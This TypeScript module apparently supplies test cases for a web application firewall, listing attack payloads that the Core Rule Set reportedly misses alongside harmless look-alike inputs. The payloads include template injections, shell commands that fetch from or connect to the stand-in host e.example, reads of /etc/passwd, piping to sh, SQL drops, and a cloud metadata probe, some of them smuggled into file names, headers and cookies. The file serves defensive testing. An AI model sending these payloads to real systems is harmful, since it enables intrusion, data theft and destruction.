import { type RequestVariant, typed } from '../request-variants/request-variant.ts'
import { type AttackSort, inJson, uploaded } from './body-attack.ts'
import { inArguments, inCookie, inHeader, inPath } from './in-payloads.ts'

const inName = (value: string): RequestVariant => ({
  name: `name ${value}`,
  target: () => `/?${encodeURIComponent(value)}=1`,
  isOrdinary: true,
})
const inJsonName = (value: string) =>
  typed(`name in JSON ${value}`, 'application/json', () => JSON.stringify({ [value]: 1 }))
const inFileName = (value: string) => uploaded(value, undefined, 'blue')
const inElement = (value: string) =>
  typed(`element ${value}`, 'application/xml', () => `<a><b><![CDATA[${value}]]></b></a>`)
const inText = (value: string) => typed(`text ${value}`, 'text/plain', () => value)
const inBase64 = (value: string) => Buffer.from(value).toString('base64')

/** What the Core Rule Set does not look for: languages of templates, shells and databases, and places where it expects no value. */
export const inLanguages: readonly AttackSort[] = [
  {
    sort: 'templates and expressions of further languages',
    attacks: [
      ...['#set($a=$b.toChars(65))', '<#import "/a.ftl" as a>', '[=6*9]', `\${b?eval}`, '~{6*9}'],
      ...["{% extends 'a.html' %}", '{{ dump(user) }}', '{{ .Env.TOKEN }}', "{{'a'.toUpperCase()}}"],
      ...["<%= File.read('a') %>", '@(System.IO.Path.GetTempPath())', '#{session.getAttribute("a")}'],
    ].flatMap(inArguments),
    ordinary: ['{{ user.name }}', '#set in stone', '[=', '<% of all', 'set(x) {% off'].map(inJson),
  },
  {
    sort: 'commands of Windows and Unix that fetch, open a shell or are disguised',
    attacks: [
      ...['mshta https://e.example/a.hta', '|wmic process list', '%COMSPEC% /k ver', '& schtasks /query'],
      ...["[System.Convert]::FromBase64String('aWQ=')", "(New-Object Net.WebClient).DownloadFile('a','b')"],
      ...[
        '; openssl s_client -connect e.example:1',
        'socat tcp:e.example:1 -',
        '; find / -exec id',
        'da""te',
      ],
      ...['{tac,/b}', `echo \${PATH:0:1}`, "$'\\x69\\x64'", "-e'a';xxd -r -p a"],
    ].flatMap(inArguments),
    ordinary: [
      ...[
        'find a home in town',
        'awk is a language',
        '5^2',
        "rock'n'roll",
        '{a,b}',
        'For /r/gardening',
        'more / less',
      ],
      ...['wmic is deprecated', 'set theory & logic', 'it cost $5'],
    ].map(inJson),
  },
  {
    sort: 'statements of further databases, members of objects, formulas and commands of TeX',
    attacks: [
      ...["a') DETACH DELETE b //", '\\r\\nFLUSHALL\\r\\n', "{!xmlparser v='a'}", '1 union table account'],
      ...[
        "1;attach database 'a' as b",
        '1 or polygon((select 1))',
        '{"__proto__":{"a":1}}',
        '=IMPORTDATA("a")',
      ],
      ...['\\write18{a}', 'eval`a(1)`', 'onerror=prompt;throw 1', 'import("//e.example/a")'],
    ].flatMap(inArguments),
    ordinary: [
      ...[
        'POLYGON((30 10, 40 40, 20 40, 30 10))',
        'POINT(4478912 5412345)',
        '=SUM(A1:A9)',
        '\\input{chapter}',
      ],
      ...['please detach and delete it', 'the constructor of a house', 'union table reservation'],
    ].map(inJson),
  },
  {
    sort: 'attacks in names, in names of files, in elements of XML and in headers with a grammar of their own',
    attacks: [
      ...['{{7*7}}', '`id`', '<svg onload=a()>'].flatMap((value) => [
        inName(value),
        inJsonName(value),
        inElement(value),
      ]),
      ...['$(id)', "a'; drop table b; --", '<img src=x onerror=a()>'].map((value) =>
        inFileName(`${value}.png`),
      ),
      ...['Accept-Language', 'If-None-Match', 'Origin'].map((name) => inHeader(name, "a' or '1'='1")),
      inHeader('Authorization', 'Bearer <script>alert(1)</script>'),
      inHeader('Referer', "https://shop.example/?q=a'-alert(1)-'"),
      inElement('http://169.254.169.254/latest'),
      inText('<script>alert(1)</script>'),
      inPath('php://filter/resource=a'),
      inPath('tac /etc/hosts'),
      inPath(inBase64("1' union select 1,2,3-- ")),
      inHeader('X-Own', inBase64('; cat /etc/passwd #')),
      inHeader('X-Own', '\\u003cscript\\u003ealert(1)'),
      inCookie('{ls,-la}'),
      inCookie('; cat a | sh'),
    ],
    ordinary: [
      ...['filter[price][$gte]', "Don't ask", 'a.b[0]', '$select', 'a;b;c=d'].map(inName),
      ...['/items/{id}', "it's late", '&:hover > a'].map(inJsonName),
      ...['Tom & Ann (2).pdf', "l'été à l'Alpe d'Huez.jpg", 'a; b.txt'].map(inFileName),
      ...['Tom & Ann', 'What? 50 % off; today!', 'https://www.example.org/a'].map(inElement),
      inHeader('Accept-Language', 'de-CH, fr;q=0.9, *;q=0.5'),
      inHeader('If-None-Match', 'W/"a1-b2", "c3"'),
      inHeader('Origin', 'https://shop.example:8443'),
      inHeader('Authorization', 'Digest username="O\'Neil", realm="a", nonce="b==", uri="/", response="c"'),
      inHeader('Authorization', `Basic ${inBase64("ann:a'b<c")}`),
      inHeader('X-Own', inBase64('Ann and Bob are here')),
      inPath(inBase64('Ann and Bob are here')),
      inPath('docs/etc/hosts'),
      inCookie('{"theme":"dark","size":12}'),
    ],
  },
]
